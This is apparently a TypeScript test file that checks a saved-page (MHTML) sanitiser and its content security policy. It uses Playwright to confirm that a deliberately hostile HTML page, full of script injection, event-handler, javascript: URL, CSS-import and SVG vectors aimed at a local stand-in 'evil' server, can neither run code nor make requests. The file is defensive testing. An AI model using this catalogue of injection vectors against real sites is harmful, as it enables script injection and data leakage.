import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Frame } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lockSavedPage } from '../../../../src/main/app/page/saved/saved-page.ts';
import { findChromium } from '../../../../src/main/capture/chromium/find-chromium.ts';
import { pageHeaders, savedPageHeaders } from '../../../../src/main/hosts/window/headers.ts';

/** Hears everything that a page manages to ask, connections without a question too. */
let outside: Server;
let asked: string[] = [];
let connections = 0;
let evil = '';
let browser: Browser;

beforeAll(async () => {
  outside = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  outside.on('connection', () => (connections += 1));
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
  evil = `http://127.0.0.1:${String((outside.address() as AddressInfo).port)}`;
  browser = await chromium.launch(await findChromium());
}, 60_000);

afterAll(async () => {
  await browser.close();
  outside.closeAllConnections();
  await new Promise((done) => outside.close(done));
});

/** Everything that a page can do without being asked, in one document. */
const hostile = () => `<!doctype html><html manifest="${evil}/manifest"><head>
<base href="${evil}/base/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">
<link rel="preload" as="image" href="${evil}/preload"><link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="${evil}">
<link rel="preconnect" href="${evil}"><link rel="modulepreload" href="${evil}/module"><link rel="icon" href="${evil}/icon">
<link rel="stylesheet" href="${evil}/style"><link rel="prerender" href="${evil}/prerender">
<style>@import "${evil}/import1"; @import url(${evil}/import2); @\\69mport '${evil}/import3'; @font-face { font-family: f; src: url(${evil}/font) }
body { font-family: f; background: url("${evil}/background"); list-style: \\75rl(${evil}/escaped); cursor: image-set("${evil}/set" 1x), auto }
p::before { content: url('${evil}/content') } /* url(${evil}/comment) */ </style>
<script>fetch('${evil}/script'); document.title = 'ran'</script><script src="${evil}/src"></script><script type="module">import '${evil}/m'</script>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${evil}/speculation"]}]}</script></head>
<body onload="fetch('${evil}/onload');document.title='ran'" background="${evil}/body">
<p id="words" onclick="1">The words stay</p>
<img src="${evil}/img" srcset="${evil}/srcset 2x" onerror="fetch('${evil}/onerror');document.title='ran'"><img src="x:" onerror="document.title='ran'">
<picture><source srcset="${evil}/source"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${evil}/svgimg'/></svg>"></picture>
<iframe src="javascript:parent.document.title='ran'"></iframe><iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script><img src='${evil}/srcdoc'>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed"><portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>
<a id="link" href="${evil}/link" ping="${evil}/ping" target="_top">A link</a><a id="script" href="javascript:document.title='ran'">Script</a>
<form id="form" action="${evil}/form" target="_top"><input name="q" value="1" autofocus onfocus="document.title='ran'"><button id="send" formaction="${evil}/formaction">Send</button></form>
<svg><script>document.title='ran'</script><use href="${evil}/use#a"/><image href="${evil}/image"/><a href="javascript:document.title='ran'"><text y="20">svg link</text></a>
<animate attributeName="href" values="${evil}/animate"/><set attributeName="href" to="javascript:1"/><foreignObject><img src="${evil}/foreign"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src="x" onerror="document.title='ran'"></style></mglyph></table></mtext></math>
<video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio autoplay src="${evil}/audio"></audio><track src="${evil}/track">
<table background="${evil}/table"><tr><td style="background-image:url(${evil}/td)">cell</td></tr></table><input type="image" src="${evil}/input">
<noscript><img src="${evil}/noscript"></noscript><div><template shadowmode="open"><img src="${evil}/shadow"></template></div>
<svg><style>circle { fill: url(${evil}/fill#a) }</style></svg><div style='background:url("${evil}/quoted")'></div><xmp><script>1</script></xmp>
<details open ontoggle="document.title='ran'"><summary>s</summary></details><marquee onstart="document.title='ran'">m</marquee>
</body></html>`;

const mhtml = (html: string, more: readonly string[] = []) =>
  Buffer.from(
    [
      'From: <Saved by somebody>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary="----edge"',
      '',
      '------edge',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: binary',
      'Content-Location: https://page.example/dir/page',
      '',
      html,
      ...more,
      '------edge--',
      '',
    ].join('\r\n'),
  );
const part = (type: string, location: string, body: string, id = '') => [
  '------edge',
  `Content-Type: ${type}`,
  'Content-Transfer-Encoding: base64',
  `Content-Location: ${location}`,
  ...(id === '' ? [] : [`Content-ID: <${id}>`]),
  '',
  Buffer.from(body).toString('base64'),
];

/** Shows a document in a frame of a window that has the window's own policy, as the hosts serve both; `work` looks at the frame. */
async function shown(
  html: Uint8Array<ArrayBuffer> | string,
  work: (frame: Frame) => Promise<void>,
): Promise<{
  readonly asked: readonly string[];
  readonly connections: number;
  readonly left: readonly string[];
}> {
  asked = [];
  connections = 0;
  const host = createServer((request, response) => {
    if (request.url === '/')
      response
        .writeHead(200, pageHeaders('n'))
        .end(
          '<!doctype html><title>window</title><iframe sandbox="" src="/saved/a" width="900" height="900"></iframe>',
        );
    else if (request.url === '/saved/a') response.writeHead(200, savedPageHeaders).end(html);
    else response.writeHead(404).end();
  });
  await new Promise<void>((done) => host.listen(0, '127.0.0.1', done));
  const origin = `http://127.0.0.1:${String((host.address() as AddressInfo).port)}`;
  const context = await browser.newContext();
  const left: string[] = [];
  try {
    const page = await context.newPage();
    context.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(`${origin}/`) && !url.startsWith('data:') && url !== 'about:srcdoc') left.push(url);
    });
    await page.goto(origin, { waitUntil: 'load' });
    const frame = page.frames().find((one) => one.url() === `${origin}/saved/a`);
    if (frame === undefined) throw new Error('the saved page is not shown');
    await work(frame);
    await page.waitForTimeout(700);
    expect(await page.title()).toBe('window');
    expect(page.url()).toBe(`${origin}/`);
    return { asked, connections, left };
  } finally {
    await context.close();
    host.closeAllConnections();
    await new Promise((done) => host.close(done));
  }
}

describe('a hostile saved page', () => {
  it('keeps its words and can neither run nor ask for anything', async () => {
    const locked = lockSavedPage(mhtml(hostile()));
    const html = new TextDecoder().decode(locked?.html);
    expect(html).toContain('The words stay');
    expect(html).toContain(`title="${evil}/link"`);
    const result = await shown(html, async (frame) => {
      await frame.locator('#words').click();
      await frame.locator('#link').click();
      await frame.locator('#script').click();
      await frame.locator('#send').click();
      expect(await frame.title()).not.toBe('ran');
    });
    // A name between quotation marks may be meant as words: that one is left to the policy.
    expect(result).toEqual({ asked: [], connections: 0, left: [`${evil}/set`] });
    expect(locked?.removed).toMatchObject({ scripts: 6, forms: 2 });
  }, 60_000);

  it('is held by the policy alone where its markup came through the reading', async () => {
    const result = await shown(hostile(), async (frame) => {
      await frame.locator('#script').click();
      await frame.locator('#send').click();
      expect(await frame.title()).not.toBe('ran');
    });
    expect(result.asked).toEqual([]);
  }, 60_000);
});

describe('a saved page', () => {
  it('is drawn from what it carries: pictures, styles with imports, frames in frames and the frames’ own parts', async () => {
    const svg = "<svg xmlns='http://www.w3.org/2000/svg' width='7' height='9'/>";
    const locked = lockSavedPage(
      mhtml(
        '<link rel=stylesheet href="/s.css" media="screen"><link rel=stylesheet href="cid:own@x"><a id=plain href="/to">plain</a><a id=styled class=styled href="/to">styled</a><img id=i src="../a.svg"><img id=gone src=none.png alt="not kept"><iframe src="cid:one@x"></iframe><div id=host><template shadowmode="closed"><b>In the shadow</b></template></div>',
        [
          ...part('image/svg+xml', 'https://page.example/a.svg', svg),
          ...part(
            'text/css',
            'cid:own@x',
            '#host { background: url(../a.svg) } a.styled:link { color: rgb(4, 5, 6) } /* :link */',
          ),
          ...part(
            'text/css',
            'https://page.example/s.css',
            '@import url("deep/t.css") print; @import "deep/t.css";\n#i { outline: 3px solid rgb(1, 2, 3) }',
          ),
          ...part(
            'text/css',
            'https://page.example/deep/t.css',
            'body { background: url(../a.svg) } </style><script>1</script>',
          ),
          ...part(
            'text/html',
            'https://other.example/f',
            '<p id=inner>Inner words</p><iframe src="https://deep.example/"></iframe>',
            'one@x',
          ),
          ...part('text/html', 'https://deep.example/', '<p>Deepest & last "words"</p>'),
        ],
      ),
    );
    expect(locked).toMatchObject({ frames: 2, removed: { missing: 1, scripts: 0 } });
    const result = await shown(locked?.html ?? '', async (frame) => {
      expect(await frame.locator('#i').evaluate((one) => one.clientWidth)).toBe(7);
      expect(await frame.locator('#i').evaluate((one) => getComputedStyle(one).outlineColor)).toBe(
        'rgb(1, 2, 3)',
      );
      expect(await frame.locator('#host').evaluate((one) => getComputedStyle(one).backgroundImage)).toContain(
        'data:image/svg+xml',
      );
      expect(await frame.locator('body').evaluate((one) => getComputedStyle(one).backgroundImage)).toContain(
        'data:image/svg+xml',
      );
      expect(await frame.locator('#host').evaluate((one) => one.shadowRoot?.textContent)).toBe(
        'In the shadow',
      );
      const colourOf = (id: string) => frame.locator(id).evaluate((one) => getComputedStyle(one).color);
      expect([await colourOf('#plain'), await colourOf('#styled')]).toEqual([
        'rgb(0, 0, 238)',
        'rgb(4, 5, 6)',
      ]);
      const [inner] = frame.childFrames();
      expect(await inner?.locator('#inner').textContent()).toBe('Inner words');
      expect(await inner?.childFrames()[0]?.locator('p').textContent()).toBe('Deepest & last "words"');
    });
    expect(result).toEqual({ asked: [], connections: 0, left: [] });
  }, 60_000);

  it('that is a set of frames shows each of them', () => {
    const locked = lockSavedPage(
      mhtml(
        '<frameset cols="50%,50%"><frame src="cid:a@x"><frameset rows="1,1"><frame src="https://page.example/b"></frameset></frameset>',
        [
          ...part('text/html', '', '<p>Left words', 'a@x'),
          ...part('text/html', 'https://page.example/b', '<p>Right words'),
        ],
      ),
    );
    const html = new TextDecoder().decode(locked?.html);
    expect(locked?.frames).toBe(2);
    expect(html).toMatch(
      /<body><iframe [^>]*srcdoc="[^"]*Left words[^"]*"[^>]*><\/iframe><div><iframe [^>]*Right words/,
    );
    expect(html).not.toContain('<frame');
  });

  it('of any depth or with styles without end is made ready in time', () => {
    const deep = '<div>'.repeat(5000) + 'deep';
    const styles = `<style>${"@import 'a' ".repeat(50_000)}{</style><style>${'url( '.repeat(50_000)}</style><p>words`;
    const begun = performance.now();
    const locked = lockSavedPage(mhtml(`<p>top words${deep}`));
    expect(new TextDecoder().decode(locked?.html)).toContain('top words');
    expect(new TextDecoder().decode(lockSavedPage(mhtml(styles))?.html)).toContain('<p>words');
    expect(performance.now() - begun).toBeLessThan(10_000);
  });

  it('that is a picture is shown as one, and what is no saved page as none', () => {
    const picture = lockSavedPage(
      Buffer.from(String(mhtml('x')).replace('text/html; charset=utf-8', 'image/png')),
    );
    expect(new TextDecoder().decode(picture?.html)).toContain('<img alt="" src="data:image/png;base64,');
    expect(lockSavedPage(Buffer.from('nothing of the kind'))).toBeNull();
    expect(lockSavedPage(Buffer.alloc(0))).toBeNull();
  });
});
